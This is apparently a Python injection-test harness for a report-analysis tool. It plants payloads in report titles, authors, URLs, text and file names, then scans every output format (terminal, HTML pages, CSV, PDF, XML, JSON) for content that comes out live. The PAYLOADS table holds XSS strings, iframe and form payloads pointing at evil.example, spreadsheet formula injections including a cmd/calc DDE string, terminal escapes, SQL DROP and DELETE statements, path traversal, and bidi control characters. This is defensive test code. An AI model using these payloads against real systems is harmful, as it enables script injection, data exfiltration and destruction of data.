"""Injection: reports, names and questions that would be more than text, and where they come out."""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from importlib.resources import files
from pathlib import Path
from typing import Any

from lxml import etree
from lxml import html as parser
from pypdf import PdfReader
from typer.testing import CliRunner

from tocsin.cli import app
from tocsin.desk import Desk, add, take_watch
from tocsin.publish.harmless import is_harmful

__all__ = ["PAYLOADS", "Injected", "inject"]

NOW = datetime(2026, 1, 2, 12, tzinfo=UTC)
AS_OF = ("--as-of", "2022-10-25")
WATCH = "belarus-entry"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert({0})</script>",
        "<img src=x onerror=alert('{0}')>",
        "<svg onload=alert({0})>",
        "<a href='javascript:alert({0})'>{0}</a>",
        "</title><script>{0}</script>",
        "--><script>{0}</script><!--",
        "]]><script>{0}</script>",
        "'\" onmouseover=alert({0}) x='",
        "<iframe src=//evil.example/{0}>",
        "<style>@import '//evil.example/{0}'</style>",
        "<base href=//evil.example/{0}>",
        "<meta http-equiv=refresh content='0;//evil.example/{0}'>",
        "[{0}](javascript:alert(1))",
        "![{0}](http://evil.example/x.png)",
        "<http://evil.example/{0}>",
        "{{{{ {0} }}}}",
        "{{% include '{0}' %}}",
        "${{{0}}}",
        "<form action=//evil.example/{0}><button>",
        "&lt;script&gt;{0}&lt;/script&gt;",
    ),
    "control character": (
        "{0}\x00x",
        "{0}\x07x",
        "{0}\x08\x08\x08x",
        "{0}\rx",
        "{0}\x0bx",
        "{0}\x0cx",
        "{0}\x7fx",
        "{0}\x85x",
        "{0}\u2028x",
        "{0}\ufeffx",
        "{0}\u200bx",
        "{0}\U000e0041x",
        "{0}\ufff9x",
    ),
    "terminal escape": (
        "{0}\x1b[31mx",
        "{0}\x1b]0;title\x07x",
        "{0}\x1b[2J\x1b[Hx",
        "{0}\x9b31mx",
        "{0}\x1bPx\x1b\\",
        "{0}\x1b]8;;http://evil.example\x07x",
        "{0}\x1b]52;c;eA==\x07",
        "{0}\x1b[6nx",
    ),
    "formula of a spreadsheet": (
        "=cmd|' /C calc'!A0{0}",
        "+{0}+1",
        "-{0}+1",
        "@SUM({0})",
        '=HYPERLINK("http://evil.example/{0}")',
        "\t=1+{0}",
        "\r=1+{0}",
        " =1+{0}",
        "＝1+{0}",
    ),
    "sql": (
        "'; DROP TABLE reports; -- {0}",
        '" OR ""="{0}',
        "{0}' UNION SELECT * FROM bytes --",
        '{0}"*; DELETE FROM texts',
        "NEAR({0} x, 99999999999)",
        "{0} AND OR NOT (",
        'title:{0} ^ "',
    ),
    "path": (
        "../../{0}",
        "/etc/{0}",
        "..\\..\\{0}",
        "file:///etc/{0}",
        "C:\\{0}",
        "\\\\evil\\{0}",
        "~/{0}",
        "CON{0}",
        "-rf{0}",
        "--help{0}",
    ),
    "direction of writing": (
        "{0}\u202ex",
        "{0}\u202dx\u202c",
        "{0}\u2066x\u2069",
        "{0}\u200fx",
        "\u2067{0}\u2069",
        "{0}\u061cx",
    ),
}

PLACES: tuple[str, ...] = ("title", "publisher", "author", "url", "text")
_SAYING = (
    "Russian tanks arrived in Belarus on Monday, the {0} Ministry of Defence said. Belarusian "
    "units moved to the border with Ukraine, {0} said on Tuesday. “{0},” the General Staff said."
)
_OURS = ("/static/",)
_LIVE = ("iframe", "object", "embed", "base", "frame", "applet", "link[@rel='import']")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")
_BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_FORMS: tuple[tuple[str, str], ...] = (
    ("md", "text"), ("html", "page"), ("pdf", "pdf"), ("stix", "data"), ("misp", "data"),
    ("atom", "xml"), ("json", "data"),
)  # fmt: skip
_TABLES = ("statements", "origins", "matrix", "waterfall", "views", "records", "evidence")


@dataclass(slots=True)
class Injected:
    """How many payloads went in, where their marks came out, and what was found live there."""

    tried: Counter[str] = field(default_factory=Counter)
    looked: Counter[str] = field(default_factory=Counter)
    shown: Counter[str] = field(default_factory=Counter)
    live: list[str] = field(default_factory=list)


def inject(folder: Path, each: int, pages: int = 10**9) -> Injected:
    """Enter every payload in `each` places, let it come out everywhere, and look at that.

    `pages` is how many pages of the served desk are looked at, those of the watch first.
    """
    found = Injected()
    desk = Desk.create(folder / "desk")
    take_watch(desk, Path(str(files("tocsin.example"))) / "watch.yaml", now=NOW)
    before = sorted(one.name for one in folder.iterdir())
    marks = _entered(desk, folder / "sent", found, each)
    outside = sorted(one.name for one in folder.iterdir() if one.name != "sent")
    if outside != before:
        found.live.append(f"files appeared beside the desk: {set(outside) - set(before)}")
    for surface, name, shape, out in _outputs(desk.path, folder, pages):
        found.looked[surface] += 1
        text = out.decode("utf-8", "replace")
        found.shown[surface] += len(set(re.findall(r"zq\d{4}", _readable(out, shape))) & marks)
        found.live += [f"{surface} {name}: {one}" for one in LOOKS[shape](text, out)]
    for name, told in _asked(desk.path):
        found.tried["sql, as a question of the search"] += 1
        found.live += [f"search {name}: {one}" for one in _text(told, b"")]
    sound = CliRunner().invoke(app, ["verify", str(desk.path)])
    if sound.exit_code != 0:
        found.live.append(f"verify: {sound.output[:200]}")
    return found


def _entered(desk: Desk, folder: Path, found: Injected, each: int) -> set[str]:
    """Add a report for each payload and place, and for each sort a file that is named so."""
    folder.mkdir()
    marks: set[str] = set()
    rows: list[str] = []
    plain = _SAYING.format("Russian")
    for sort, payloads in PAYLOADS.items():
        for number, payload in enumerate(payloads):
            for place in (PLACES * 2)[number % len(PLACES) :][:each]:
                mark = f"zq{len(marks):04}"
                marks.add(mark)
                evil = payload.format(mark)
                row = {
                    "title": "Tanks arrive",
                    "publisher": f"Gazette {len(rows)}",
                    "author": "A. Smith",
                    "url": f"https://gazette.example/{len(rows)}",
                    "text": plain,
                    "published": "2022-10-18",
                }
                row[place] = evil if place != "text" else _SAYING.format(evil)
                rows.append(json.dumps(row))
                found.tried[sort] += 1
            if "/" not in evil and "\0" not in evil and number < 4 * each:
                mark = f"zq{len(marks):04}"
                marks.add(mark)
                file = folder / f"{payload.format(mark)}.md"
                file.write_text(
                    f"---\ndate: 2022-10-18\n---\n{_SAYING.format('Russian')}\n", "utf-8"
                )
                found.tried[sort] += 1
    (folder / "rows.jsonl").write_text("\n".join(rows), "utf-8")
    add(desk, sorted(folder.iterdir()), now=NOW)
    return marks


def _outputs(desk: Path, folder: Path, pages: int) -> Iterator[tuple[str, str, str, bytes]]:
    """Yield what comes out: of which surface, its name, how it is looked at, and its bytes."""
    sent, to = folder / "sent", folder / "out"
    to.mkdir()
    run = CliRunner()
    at = str(desk)
    files_ = [str(one) for one in sorted(sent.iterdir())]
    commands: list[list[str]] = [
        ["status", at],
        ["doctor", at],
        ["search", at, "tanks"],
        ["watch", "list", at],
        ["assess", at, WATCH, *AS_OF],
        ["changes", at, WATCH, "--since", "2022-10-01", *AS_OF],
        ["history", at, WATCH],
        ["explain", at, WATCH, *AS_OF],
        ["feed", "list", at],
        ["verify", at],
        *([one, *files_] for one in ("read", "segment", "trace")),
    ]
    for command in commands:
        for extra, shape in (([], "text"), (["--json"], "json")):
            told = run.invoke(app, [*command, *extra])
            yield "terminal", " ".join([*command[:1], *extra]), shape, told.output.encode()
    for form, shape in _FORMS:
        file = to / f"assessment.{form}"
        said = ["export", at, WATCH, *AS_OF, "--format", form, "--to", str(file)]
        told = run.invoke(app, said)
        surface = {"page": "page", "pdf": "pdf"}.get(shape, "export")
        yield "terminal", f"export {form}", "text", told.output.encode()
        if file.exists():
            yield surface, form, shape, file.read_bytes()
    for table in _TABLES:
        for form, shape in (("csv", "csv"), ("jsonl", "data")):
            file = to / f"{table}.{form}"
            said = ["export", at, WATCH, *AS_OF, "--what", table, "--format", form]
            run.invoke(app, [*said, "--to", str(file)])
            if file.exists():
                yield (
                    "csv" if form == "csv" else "export",
                    f"{table}.{form}",
                    shape,
                    file.read_bytes(),
                )
    yield from _pages(desk, pages)


def _pages(desk: Path, most: int) -> Iterator[tuple[str, str, str, bytes]]:
    """Yield the pages of the served desk: those of the watch, and of every report they lead to."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from starlette.testclient import TestClient

    from tocsin.cli.serving import estimate_line
    from tocsin.web import app_of
    from tocsin.web.keeping import Keeper

    served = app_of(desk, estimate_json=estimate_line, keeper=Keeper(desk))
    names = "", "board", "matrix", "lineage", "contradictions", "timeline", "map", "sources"
    waiting = ["/?as_of=2022-10-25"]
    waiting += [f"/watch/{WATCH}/{one}".rstrip("/") + "?as_of=2022-10-25" for one in names]
    waiting += [f"/watch/{WATCH}/{one}?as_of=2022-10-25&all=1" for one in ("inbox", "assessment")]
    seen = set(waiting)
    with TestClient(
        served, base_url="http://127.0.0.1:8347", raise_server_exceptions=False
    ) as asking:
        for address in waiting:
            answer = asking.get(address)
            yield "page", address, "page", answer.text.encode("utf-8", "replace")
            for link in _found(parser.document_fromstring(answer.text), "//a/@href"):
                plain = str(link).partition("#")[0]
                if plain.startswith("/report/") and plain not in seen and len(seen) < most:
                    seen.add(plain)
                    waiting.append(plain)


def _asked(desk: Path) -> Iterator[tuple[str, str]]:
    for payloads in PAYLOADS.values():
        for payload in payloads:
            said = payload.format("zq")
            told = CliRunner().invoke(app, ["search", str(desk), "--", said])
            if told.exception is not None and not isinstance(told.exception, SystemExit):
                yield payload, f"\x1b{type(told.exception).__name__}"
            yield payload, told.output


def _found(page: Any, path: str) -> list[Any]:
    """Return the elements or values at a path, whose types lxml leaves open."""
    return list(page.xpath(path))


def _text(text: str, _data: bytes) -> Iterator[str]:
    steering = sorted({f"U+{ord(one):04X}" for one in text if is_harmful(one)})
    if steering:
        yield f"characters that steer: {', '.join(steering)}"


def _json(text: str, data: bytes) -> Iterator[str]:
    yield from _text(text, data)
    yield from _data(text, data)


def _data(text: str, _bytes: bytes) -> Iterator[str]:
    """Look at a file of JSON: it goes to programs, so letters stand in it as they are."""
    whole = text.lstrip().startswith(("[", "{\n"))
    for line in [text] if whole else filter(None, text.split("\n")):
        try:
            json.loads(line)
        except ValueError:
            yield f"no JSON: {line[:80]!r}"


def _page(text: str, _data: bytes) -> Iterator[str]:
    yield from _text(text, _data)
    page = parser.document_fromstring(text)
    for one in _found(page, "//script"):
        if not str(one.get("src", "")).startswith(_OURS):
            yield f"a script that is not ours: {parser.tostring(one)[:80]!r}"
    for name in _LIVE:
        for one in _found(page, f"//{name}"):
            yield f"a live part: {parser.tostring(one)[:80]!r}"
    for one in _found(page, "//@*[starts-with(name(), 'on')]"):
        yield f"a handler: {str(one)[:80]!r}"
    for one in _found(page, "//@href | //@src | //@action | //@formaction | //@srcdoc"):
        address = re.sub(r"[\s\x00-\x1f]", "", str(one)).lower()
        if address.startswith(("javascript:", "vbscript:", "file:", "data:text")):
            yield f"an address that runs: {str(one)[:80]!r}"
    for one in _found(page, "//img/@src | //form/@action | //meta[@http-equiv]/@content"):
        if "evil.example" in str(one):
            yield f"it asks another host: {str(one)[:80]!r}"


def _csv(text: str, data: bytes) -> Iterator[str]:
    yield from _text(text.replace("\r\n", "\n"), data)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.lstrip(" ").startswith(_BEGINS) and not _NUMBER.fullmatch(cell):
                yield f"a cell that is worked out: {cell[:60]!r}"


def _xml(text: str, data: bytes) -> Iterator[str]:
    yield from _text(text, data)
    try:
        tree = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    except etree.XMLSyntaxError as fault:
        yield f"no XML: {fault}"
        return
    for one in tree.iter():
        if isinstance(one.tag, str) and one.tag.rpartition("}")[2].lower() in {"script", "iframe"}:
            yield f"a live part: {one.tag}"


def _pdf(_said: str, data: bytes) -> Iterator[str]:
    reader = PdfReader(io.BytesIO(data))
    root: Any = reader.trailer["/Root"].get_object()
    for name in ("/OpenAction", "/AA", "/AcroForm"):
        if name in root:
            yield f"the document has {name}"
    if "/JavaScript" in root.get("/Names", {}):
        yield "the document has scripts"
    for page in reader.pages:
        for one in page.get("/Annots") or ():
            action = one.get_object().get("/A", {})
            if action.get("/S", "/URI") not in ("/URI", "/GoTo"):
                yield f"an annotation that does {action.get('/S')}"
            if not re.match(r"https?://|$", str(action.get("/URI", ""))):
                yield f"a link to {action.get('/URI')!r:.80}"


def _readable(out: bytes, shape: str) -> str:
    if shape != "pdf":
        return out.decode("utf-8", "replace")
    return "".join(one.extract_text() for one in PdfReader(io.BytesIO(out)).pages)


LOOKS: dict[str, Callable[[str, bytes], Iterator[str]]] = {
    "text": _text, "json": _json, "data": _data, "page": _page, "csv": _csv, "xml": _xml,
    "pdf": _pdf,
}  # fmt: skip
